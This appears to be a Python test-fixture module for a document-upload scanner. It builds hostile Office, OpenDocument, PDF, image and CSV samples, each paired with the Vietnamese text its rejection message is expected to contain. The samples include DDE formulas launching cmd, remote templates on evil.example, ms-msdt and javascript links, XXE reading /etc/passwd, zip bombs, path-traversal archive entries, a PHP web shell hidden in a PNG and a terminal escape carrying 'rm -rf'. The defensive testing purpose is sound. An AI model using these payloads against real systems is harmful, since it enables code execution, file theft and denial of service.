"""Hostile files, each named for what it would do: how people would call it, and a piece of what must be said of it."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
from pikepdf import Name, String
from PIL import Image

from tests.lib.inspection import office_files as office
from tests.lib.inspection import pdf_files as pdfs
from tests.lib.inspection.archives import archive, entry, part_of, with_parts
from tests.workbooks import xls

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ODF = {"text": "text", "draw": "drawing", "office": "office", "table": "table", "script": "script"}
OFFICE = "application/vnd.ms-office"
DOCUMENT_RELS, BOOK_RELS = "word/_rels/document.xml.rels", "xl/_rels/workbook.xml.rels"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1 or str()};" * 10}">' for n in range(1, 9))
    + "]><a>&a8;</a>"
).encode()
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@dataclass(frozen=True)
class Case:
    """``suffix``: how it is called. ``says``: what the sentence of its refusal has in it."""

    suffix: str
    make: Callable[[], bytes]
    says: str


def of_word(part: str, data: bytes, kind: str) -> Callable[[], bytes]:
    return lambda: office.with_part(office.word(), part, data, kind)


def of_excel(part: str, data: bytes, kind: str) -> Callable[[], bytes]:
    return lambda: office.with_part(office.excel(), part, data, kind)


def related(kind: str, target: str, **more) -> Callable[[], bytes]:
    return lambda: office.with_relation(office.word(), DOCUMENT_RELS, kind, target, **more)


def replaced(content: Callable[[], bytes], part: str, data: bytes) -> Callable[[], bytes]:
    return lambda: with_parts(content(), {part: data})


def in_text(xml: str) -> Callable[[], bytes]:
    return lambda: office.with_content(office.writer(), _named(xml), b"</office:text>")


def in_table(xml: str) -> Callable[[], bytes]:
    return lambda: office.with_content(office.calc(), _named(xml), b"</office:spreadsheet>")


def _named(xml: str) -> str:
    names = "".join(f' xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{space}:1.0"' for name, space in ODF.items())
    return f'<text:section{names} xmlns:xlink="http://www.w3.org/1999/xlink">{xml}</text:section>'


def raw_entries(*more, **how) -> Callable[[], bytes]:
    """A text of Word, written byte by byte, with entries of ``archives`` added."""

    def make() -> bytes:
        with zipfile.ZipFile(io.BytesIO(office.word())) as old:
            entries = [entry(part.filename, old.read(part)) for part in old.infolist()]
        return archive([*entries, *more], **how)

    return make


def overlapping() -> bytes:
    """One part in the list thousands of times (a zip bomb without recursion)."""
    with zipfile.ZipFile(io.BytesIO(office.word())) as old:
        entries = [entry(part.filename, old.read(part)) for part in old.infolist()]
    kernel = entry("word/media/a.xml", bytes(100_000))
    offset = sum(len(local) for local, _ in entries)
    lines = b"".join(kernel[1](offset) for _ in range(50))
    return archive([*entries, kernel], extra_lines=lines)


def two_names() -> bytes:
    """The list calls a part otherwise than its own header does."""
    local, listed = entry("word/vbaProject.bin", b"x")
    return raw_entries((local, lambda offset: listed(offset, b"word/settings_x.xml")))()


def chart_in_chart() -> bytes:
    inner = office.excel()
    for _ in range(3):
        inner = office.with_part(inner, "xl/embeddings/a.xlsx", inner, SHEET)
    return inner


SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def macro_in_chart() -> bytes:
    book = office.with_part(office.excel(), "xl/vbaProject.bin", b"x", f"{OFFICE}.vbaProject")
    return office.with_part(office.word(), "word/embeddings/Book.xlsx", book, SHEET)


def apng() -> bytes:
    frames = [Image.new("RGB", (4, 4), colour) for colour in ("red", "blue")]
    target = io.BytesIO()
    frames[0].save(target, "PNG", save_all=True, append_images=frames[1:])
    return target.getvalue()


def png_of_gigapixels() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(9))) + chunk(b"IEND", b"")


def small_archive() -> bytes:
    return archive([entry("run.bat", b"calc")])


def jpeg_with_comment(comment: bytes) -> bytes:
    target = io.BytesIO()
    Image.new("RGB", (9, 9)).save(target, "JPEG", comment=comment)
    return target.getvalue()


def encrypted_pdf() -> bytes:
    return pdfs.pdf(encryption=pikepdf.Encryption(user="a", owner="b"))


def hidden_script() -> bytes:
    """In a compressed stream of objects, its name written with a number for a letter."""
    return pdfs.pdf(pdfs.opening, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)


def spelt_otherwise() -> bytes:
    content = pdfs.pdf(pdfs.opening, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/#4a#53")


def script_called_structure() -> bytes:
    return pdfs.with_action(Type=Name.StructElem, P=Name.X, S=Name.JavaScript, JS=String("app.alert(1)"))


def xls_with(record: bytes) -> Callable[[], bytes]:
    """A table of Excel 97–2003 with one more record at its beginning."""

    def make() -> bytes:
        content = xls([["Xã", 1]])
        start = content.index(b"\x09\x08")
        length = 4 + struct.unpack_from("<H", content, start + 2)[0]
        end = start + 4_096  # its stream is filled with nulls up to here
        return content[: start + length] + record + content[start + length : end - len(record)] + content[end:]

    return make


def xls_named(name: str) -> Callable[[], bytes]:
    """The same with a further storage of that name in its directory."""

    def make() -> bytes:
        content = bytearray(xls([["Xã", 1]]))
        third = content.index("Root Entry".encode("utf-16-le")) + 2 * 128
        raw = name.encode("utf-16-le") + b"\0\0"
        content[third : third + 67] = raw.ljust(64, b"\0") + struct.pack("<HB", len(raw), 1)
        return bytes(content)

    return make


def supbook(text: bytes, sheets: int = 0) -> bytes:
    data = struct.pack("<HHB", sheets, len(text), 0) + text
    return struct.pack("<HH", 0x1AE, len(data)) + data


def bound_sheet(kind: int) -> bytes:
    data = struct.pack("<IBB", 0, 0, kind) + b"\1\0m"
    return struct.pack("<HH", 0x85, len(data)) + data


MACRO, EMBED = "có macro", "nhúng"
WORD_FILES = {
    "macros of Word": Case("docx", of_word("word/vbaProject.bin", b"x", f"{OFFICE}.vbaProject"), MACRO),
    "macros under another name": Case("docx", of_word("word/theme9.xml", b"<a/>", f"{OFFICE}.vbaProject"), MACRO),
    "data of macros": Case("docx", of_word("word/vbaData.xml", b"<a/>", "application/vnd.ms-word.vbaData+xml"), MACRO),
    "an ActiveX control": Case("docx", of_word("word/activeX/activeX1.bin", b"x", f"{OFFICE}.activeX"), "ActiveX"),
    "an embedded program": Case(
        "docx",
        of_word("word/embeddings/oleObject1.bin", OLE, "application/vnd.openxmlformats-officedocument.oleObject"),
        EMBED,
    ),
    "a program called a picture": Case("docx", of_word("word/media/image9.png", b"MZ\x90", "image/png"), "hình ảnh"),
    "a page called a picture": Case(
        "docx", of_word("word/media/a.svg", b"<svg onload='x()'/>", "image/svg+xml"), "SVG"
    ),
    "a program called settings": Case("docx", of_word("word/x.bin", b"MZ", "application/octet-stream"), "phần lạ"),
    "a page in a text": Case("docx", of_word("word/afchunk.mht", b"x", "message/rfc822"), "chèn nguyên"),
    "a web add-in": Case(
        "docx",
        of_word("word/webextensions/webextension1.xml", b"<a/>", "application/vnd.ms-office.webextension+xml"),
        "tiện ích web",
    ),
    "macros in the workbook of a chart": Case("docx", macro_in_chart, MACRO),
    "workbooks nested in workbooks": Case("xlsx", chart_in_chart, "lồng trong tệp"),
    "a template on a server": Case("docx", related("attachedTemplate", "https://evil.example/a.dotm"), "kéo nội dung"),
    "a template on a share": Case("docx", related("attachedTemplate", "file://10.0.0.1/a.dotx"), "kéo nội dung"),
    "a picture on a server": Case("docx", related("image", "http://evil.example/pixel.png"), "kéo nội dung"),
    "an object on a server": Case("docx", related("oleObject", "http://evil.example/a.html!"), "kéo nội dung"),
    "an outside part without saying so": Case("docx", related("image", "//evil.example/a.png", external=False), "kéo"),
    "a frame on a share": Case("docx", related("frame", "\\\\evil\\a"), "kéo nội dung"),
    "a link that runs a tool": Case("docx", related("hyperlink", "ms-msdt:/id PCWDiagnostic"), "liên kết mở"),
    "a link that runs a script": Case("docx", related("hyperlink", "javascript:alert(1)"), "liên kết mở"),
    "a link of a script with a gap": Case("docx", related("hyperlink", "java&#9;script:alert(1)"), "liên kết mở"),
    "a link to a share, spelt otherwise": Case("docx", related("hyperlink", "%5C%5Cevil%5Ca"), "liên kết mở"),
    "a link to a share with a wrong stroke": Case("docx", related("hyperlink", "/\\evil\\a"), "liên kết mở"),
    "a base of links on a share": Case(
        "docx",
        replaced(
            office.word, "docProps/app.xml", b"<Properties><HyperlinkBase>\\\\evil\\a</HyperlinkBase></Properties>"
        ),
        "liên kết mở",
    ),
    "a link to a share": Case("docx", related("hyperlink", "file://evil/share/a.docx"), "liên kết mở"),
    "a link to a program": Case("docx", related("hyperlink", "file:///C:/Windows/System32/calc.exe"), "liên kết mở"),
    "a part that is not there": Case("docx", related("image", "media/none.png", external=False), "không có trong tệp"),
    "DDE in a field": Case("docx", lambda: office.with_field("DDE cmd &quot;/c calc&quot;", simple=True), "trường DDE"),
    "DDEAUTO spread over runs": Case("docx", lambda: office.with_field(r"DDEAUTO c:\\x cmd", pieces=6), "DDEAUTO"),
    "DDE put together by a field": Case(
        "docx",
        lambda: office.with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> REF a </w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>E</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> cmd</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "trường DDE",
    ),
    "DDE spelt by numbers in a field": Case(
        "docx",
        lambda: office.with_body(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            "<w:r><w:instrText> QUOTE 68 68 69 65 85 84 79 </w:instrText></w:r>"
            '<w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> c cmd</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        "QUOTE",
    ),
    "a text fetched by a field": Case("docx", lambda: office.with_field(r"INCLUDETEXT \\\\evil\\a"), "INCLUDETEXT"),
    "a picture fetched by a field": Case(
        "docx", lambda: office.with_field("INCLUDEPICTURE http://evil.example/a.png"), "INCLUDEPICTURE"
    ),
    "a button of a macro": Case("docx", lambda: office.with_field("MACROBUTTON Run Bấm"), "nút chạy macro"),
    "a field that prints commands": Case("docx", lambda: office.with_field("PRINT 27"), "trường PRINT"),
    "letters to be merged from a database": Case(
        "docx", lambda: office.with_body('<w:mailMerge><w:connectString w:val="Provider=a"/></w:mailMerge>'), "trộn thư"
    ),
    "a control in a text": Case(
        "docx",
        lambda: office.with_relation(office.word(), DOCUMENT_RELS, "control", "styles.xml", external=False),
        "ActiveX",
    ),
    "a billion laughs": Case("docx", replaced(office.word, "word/settings.xml", LAUGHS), "thực thể XML"),
    "an entity that reads a file": Case("docx", replaced(office.word, "word/styles.xml", OUTSIDE), "thực thể XML"),
    "an inclusion": Case(
        "docx",
        replaced(
            office.word,
            "word/settings.xml",
            b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd"/></a>',
        ),
        "XInclude",
    ),
    "ten thousand levels": Case(
        "docx", replaced(office.word, "word/settings.xml", b"<a>" * 10_000 + b"</a>" * 10_000), "lồng nhau"
    ),
    "an attribute without end": Case(
        "docx", replaced(office.word, "word/settings.xml", b'<a b="' + b"x" * (17 << 20) + b'"/>'), "nén quá nhiều"
    ),
}
EXCEL_FILES = {
    "macros of Excel": Case("xlsx", of_excel("xl/vbaProject.bin", b"x", f"{OFFICE}.vbaProject"), MACRO),
    "a book of macros called one without": Case(
        "xlsx",
        replaced(
            office.excel,
            office.TYPES,
            b'<Types><Override PartName="/xl/workbook.xml"'
            b' ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        ),
        MACRO,
    ),
    "a sheet of macros of Excel 4": Case(
        "xlsx", of_excel("xl/macrosheets/sheet1.xml", b"<a/>", "application/vnd.ms-excel.macrosheet+xml"), "Excel 4"
    ),
    "another workbook": Case(
        "xlsx",
        of_excel(
            "xl/externalLinks/externalLink1.xml",
            b"<a/>",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        ),
        "liên kết tới bảng tính",
    ),
    "a connection to data": Case(
        "xlsx",
        of_excel(
            "xl/connections.xml", b"<a/>", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
        ),
        "kết nối dữ liệu",
    ),
    "a formula that starts a program": Case("xlsx", lambda: office.with_formula("cmd|&apos;/c calc&apos;!A0"), "DDE"),
    "the same spelt with numbers": Case("xlsx", lambda: office.with_formula("cmd&#124;'/c calc'!A0"), "DDE"),
    "a text that starts a program": Case(
        "xlsx",
        replaced(
            office.excel,
            "xl/sharedStrings.xml",
            b"<sst><si><t>=cmd|'/c calc'!A0</t></si></sst>",
        ),
        "DDE",
    ),
    "a formula that asks a server": Case(
        "xlsx", lambda: office.with_formula("_xlfn.WEBSERVICE(&quot;http://evil.example&quot;)"), "WEBSERVICE"
    ),
    "a formula that calls a library": Case(
        "xlsx", lambda: office.with_formula("CALL(&quot;Kernel32&quot;,&quot;WinExec&quot;)"), "CALL"
    ),
    "a formula with a link to a share": Case(
        "xlsx", lambda: office.with_formula(r"HYPERLINK(&quot;\\evil\a&quot;,&quot;Xem&quot;)"), "liên kết mở"
    ),
    "a name that runs at opening": Case(
        "xlsx",
        lambda: with_parts(
            office.excel(),
            {
                "xl/workbook.xml": part_of(office.excel(), "xl/workbook.xml").replace(
                    b"</sheets>",
                    b'</sheets><definedNames><definedName name="_xlnm.Auto_Open">m!A1</definedName></definedNames>',
                )
            },
        ),
        "tự chạy",
    ),
    "a formula with a remark in it": Case("xlsx", lambda: office.with_formula("cm<!-- x -->d|'/c calc'!A0"), "DDE"),
    "a formula of a strange prefix": Case(
        "xlsx",
        replaced(
            office.excel,
            "xl/worksheets/sheet1.xml",
            "<é:worksheet xmlns:é='a'><é:f>cmd|'/c calc'!A0</é:f></é:worksheet>".encode(),
        ),
        "DDE",
    ),
    "a validation that asks a server": Case(
        "xlsx",
        replaced(
            office.excel,
            "xl/worksheets/sheet1.xml",
            b"<worksheet><formula1>WEBSERVICE(A1)</formula1></worksheet>",
        ),
        "WEBSERVICE",
    ),
    "macros that lie about their type": Case(
        "xlsx",
        lambda: office.with_relation(
            office.with_part(office.excel(), "xl/a.odttf", b"x", "application/x-fontdata"),
            BOOK_RELS,
            "vbaProject",
            "a.odttf",
            external=False,
        ),
        MACRO,
    ),
    "a link of a workbook": Case(
        "xlsx",
        lambda: office.with_relation(office.excel(), BOOK_RELS, "externalLinkPath", "file:///\\\\evil\\a.xlsx"),
        "kéo nội dung",
    ),
}
OPEN_DOCUMENTS = {
    "macros of LibreOffice": Case("odt", replaced(office.writer, "Basic/Standard/Module1.xml", b"<a/>"), MACRO),
    "a script of Python": Case("odt", replaced(office.writer, "Scripts/python/a.py", b"import os"), MACRO),
    "an embedded object of LibreOffice": Case("odt", replaced(office.writer, "Object 1", OLE), EMBED),
    "a key that runs a macro": Case(
        "odt", replaced(office.writer, "Configurations2/menubar/menubar.xml", b"<a/>"), MACRO
    ),
    "a picture on a server (odt)": Case(
        "odt", in_text('<draw:image xlink:href="http://evil.example/a.png"/>'), "kéo nội dung"
    ),
    "an object beside the file": Case("odt", in_text('<draw:object xlink:href="../../a.ods"/>'), "kéo nội dung"),
    "a link that runs a macro": Case(
        "odt", in_text('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>'), "mở"
    ),
    "an event that runs a macro": Case(
        "odt",
        in_text('<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a"/>'),
        "mã lệnh",
    ),
    "a frame in a text": Case("odt", in_text('<draw:floating-frame xlink:href="http://evil.example"/>'), "mã lệnh"),
    "DDE in a text": Case(
        "odt",
        in_text('<text:dde-connection-decl office:dde-application="cmd" office:dde-topic="a"/>'),
        "tự lấy dữ liệu",
    ),
    "DDE in a table": Case("ods", in_table("<table:dde-link><office:dde-source/></table:dde-link>"), "tự lấy dữ liệu"),
    "a formula of DDE": Case(
        "ods",
        in_table('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)"/>'),
        "DDE",
    ),
    "a formula that asks a server (ods)": Case(
        "ods",
        in_table('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>'),
        "WEBSERVICE",
    ),
    "a template on a share (odt)": Case(
        "odt", in_text('<meta:template xlink:href="file://evil/a.ott" xmlns:meta="m"/>'), "kéo nội dung"
    ),
    "a field that runs a macro (odt)": Case("odt", in_text('<text:execute-macro text:name="a"/>'), "mã lệnh"),
    "entities (ods)": Case("ods", replaced(office.calc, "styles.xml", LAUGHS), "thực thể XML"),
    "a password (ods)": Case(
        "ods", replaced(office.calc, "META-INF/manifest.xml", b"<a><encryption-data/></a>"), "đặt mật khẩu"
    ),
}
ARCHIVES = {
    "a bomb of blanks": Case("docx", replaced(office.word, "word/settings.xml", b"<a>" + b" " * (64 << 20)), "nén quá"),
    "a bomb that lies about its size": Case(
        "docx", raw_entries(entry("word/a.xml", bytes(64 << 20), size=10)), "nén quá nhiều"
    ),
    "a part that lies about its size": Case("docx", raw_entries(entry("word/a.xml", bytes(9_000), size=10)), "khai"),
    "a part that lies about its sum": Case("docx", raw_entries(entry("word/a.xml", b"<a/>", crc=1)), "khai"),
    "one part a thousand times": Case("docx", overlapping, "chồng lên nhau"),
    "ten thousand parts": Case(
        "docx", raw_entries(*(entry(f"word/{n}.xml", b"") for n in range(10_000))), "nén quá nhiều"
    ),
    "two parts of one name": Case("docx", raw_entries(entry("word/Document.xml", b"<a/>")), "cùng tên"),
    "a part with two names": Case("docx", two_names, "hai tên"),
    "a part outside the file": Case("docx", raw_entries(entry("../../etc/cron.d/a", b"x")), "ra ngoài tệp"),
    "a part at the root of a disk": Case("docx", raw_entries(entry("/etc/passwd", b"x")), "ra ngoài tệp"),
    "a part on a drive": Case("docx", raw_entries(entry("C:\\a.xml", b"x")), "ra ngoài tệp"),
    "a part with a password": Case("docx", raw_entries(entry("word/a.xml", b"<a/>", flags=1)), "đặt mật khẩu"),
    "a part packed in another way": Case("docx", raw_entries(entry("word/a.xml", b"<a/>", method=12)), "nén bằng cách"),
    "an archive behind a page": Case("docx", raw_entries(before=b"<html><script>x()</script></html>"), "giả hai loại"),
    "an archive behind a program": Case("xlsx", lambda: b"MZ" + office.excel(), "chương trình máy tính"),
    "a page behind an archive": Case("docx", lambda: office.word() + b"<script>x()</script>", "giả hai loại"),
    "a page as its comment": Case("docx", raw_entries(comment=b"<script>x()</script>"), "giả hai loại"),
    "a page between two parts": Case("docx", raw_entries(between=b"<script>" * 99), "giấu dữ liệu"),
    "data in a folder": Case("docx", raw_entries(entry("word/", b"MZ")), "thư mục"),
    "an archive in an archive": Case("docx", of_word("word/a.zip", small_archive(), "application/zip"), "phần lạ"),
}
PDFS = {
    "a script at opening": Case("pdf", lambda: pdfs.pdf(pdfs.opening), "lệnh tự chạy"),
    "a script on a page": Case("pdf", lambda: pdfs.pdf(pdfs.on_page), "lệnh tự chạy"),
    "an address opened by a page": Case("pdf", lambda: pdfs.pdf(pdfs.page_opens_address), "lệnh tự chạy"),
    "a script in the names": Case("pdf", lambda: pdfs.pdf(pdfs.named_scripts), "JavaScript"),
    "a script in packed objects": Case("pdf", hidden_script, "JavaScript"),
    "a script spelt otherwise": Case("pdf", spelt_otherwise, "JavaScript"),
    "a script called structure": Case("pdf", script_called_structure, "JavaScript"),
    "a script that was replaced": Case("pdf", pdfs.replaced_later, "JavaScript"),
    "a program that is opened": Case(
        "pdf", lambda: pdfs.with_action(S=Name.Launch, F=String("cmd.exe")), "chương trình"
    ),
    "a form that is sent": Case(
        "pdf", lambda: pdfs.with_action(S=Name.SubmitForm, F=String("http://evil")), "gửi dữ liệu"
    ),
    "data that are fetched": Case(
        "pdf", lambda: pdfs.with_action(S=Name.ImportData, F=String("a.fdf")), "nhập dữ liệu"
    ),
    "another file that is opened": Case(
        "pdf", lambda: pdfs.with_action(S=Name.GoToR, F=String("\\\\evil\\a")), "tệp khác"
    ),
    "a file in it that is opened": Case("pdf", lambda: pdfs.with_action(S=Name.GoToE), "tệp nhúng"),
    "a link to a share (pdf)": Case(
        "pdf", lambda: pdfs.with_action(S=Name.URI, URI=String("file://evil/a")), "liên kết"
    ),
    "a link of a script (pdf)": Case(
        "pdf", lambda: pdfs.with_action(S=Name.URI, URI=String("javascript:x()")), "liên kết"
    ),
    "a program that goes along": Case("pdf", lambda: pdfs.pdf(pdfs.attached("a.exe", b"MZ")), "đính kèm"),
    "a script called data": Case("pdf", lambda: pdfs.pdf(pdfs.attached("a.xml", b"<script>x()</script>")), "đính kèm"),
    "a program with two names": Case("pdf", lambda: pdfs.pdf(pdfs.two_names), "đính kèm"),
    "a note with a file": Case("pdf", lambda: pdfs.pdf(pdfs.annotation(Name.FileAttachment)), "đính kèm"),
    "media": Case("pdf", lambda: pdfs.pdf(pdfs.annotation(Name.RichMedia)), "đa phương tiện"),
    "a form of its own kind": Case("pdf", lambda: pdfs.pdf(pdfs.dynamic_form), "XFA"),
    "a portfolio": Case("pdf", lambda: pdfs.pdf(pdfs.portfolio), "portfolio"),
    "a page out of another file": Case("pdf", lambda: pdfs.pdf(pdfs.outside_stream), "kéo nội dung"),
    "objects without end": Case("pdf", lambda: pdfs.pdf(pdfs.nested), "lồng nhau"),
    "a password (pdf)": Case("pdf", encrypted_pdf, "đặt mật khẩu"),
    "a page before a PDF": Case("pdf", lambda: b"<html>" + pdfs.pdf(), "trang web"),
    "a page at the beginning of a PDF": Case(
        "pdf", lambda: pdfs.pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1), "giả hai loại"
    ),
    "an archive behind a PDF": Case("pdf", lambda: pdfs.pdf() + small_archive(), "giả hai loại"),
    "a page behind a PDF": Case("pdf", lambda: pdfs.pdf() + b"<script>x()</script>", "giả hai loại"),
}
PICTURES = {
    "a picture of gigapixels": Case("png", png_of_gigapixels, "điểm ảnh"),
    "a moving picture": Case("png", apng, "ảnh động"),
    "an archive behind a picture": Case("jpg", lambda: office.picture("JPEG") + small_archive(), "giả hai loại"),
    "a program of Java behind a picture": Case("png", lambda: office.picture() + small_archive(), "giả hai loại"),
    "a page in a picture": Case("jpg", lambda: jpeg_with_comment(b"<script>alert(1)</script>"), "giả hai loại"),
    "a script of a server in a picture": Case("png", lambda: office.picture() + b"<?php system($_GET[0]); ?>", "giả"),
    "a PDF in a picture": Case("jpg", lambda: jpeg_with_comment(b"%PDF-1.7 1 0 obj"), "giả hai loại"),
    "a script called a picture": Case("png", lambda: b"GIF89a/*" + b"*/=alert(1)", "không đúng với đuôi"),
    "a page called a photo": Case("jpg", lambda: b"<html><script>x()</script></html>", "trang web"),
    "a picture cut off": Case("jpg", lambda: office.picture("JPEG")[:400], "hỏng"),
}
TABLES = {
    "macros (xls)": Case("xls", xls_named("_VBA_PROJECT"), MACRO),
    "an embedded program (xls)": Case("xls", xls_named("\x01Ole10Native"), EMBED),
    "an embedded file (xls)": Case("xls", xls_named("MBD0001A2B3"), EMBED),
    "a sheet of macros (xls)": Case("xls", xls_with(bound_sheet(1)), "Excel 4"),
    "a module (xls)": Case("xls", xls_with(bound_sheet(6)), MACRO),
    "DDE (xls)": Case("xls", xls_with(supbook(b"cmd\x03/c calc")), "DDE"),
    "another workbook (xls)": Case("xls", xls_with(supbook(b"\x01a.xls", 3)), "bảng tính khác"),
    "a formula that asks a server (csv)": Case(
        "csv", lambda: 'Xã;1\n=WEBSERVICE("http://evil.example/a");2\n'.encode(), "WEBSERVICE"
    ),
    "DDE (csv)": Case("csv", lambda: "Xã;Số hộ\n=cmd|'/C calc'!A0;1\n".encode(), "DDE"),
    "DDE behind a sign (csv)": Case("csv", lambda: "Xã,Số hộ\n\"@SUM(1+1)*cmd|'/C calc'!A0\",1\n".encode(), "DDE"),
    "commands of a terminal (csv)": Case("csv", lambda: "Xã;1\n\x1b]0;rm -rf\x07;2\n".encode(), "mã điều khiển"),
}

CASES: dict[str, Case] = {**WORD_FILES, **EXCEL_FILES, **OPEN_DOCUMENTS, **ARCHIVES, **PDFS, **PICTURES, **TABLES}
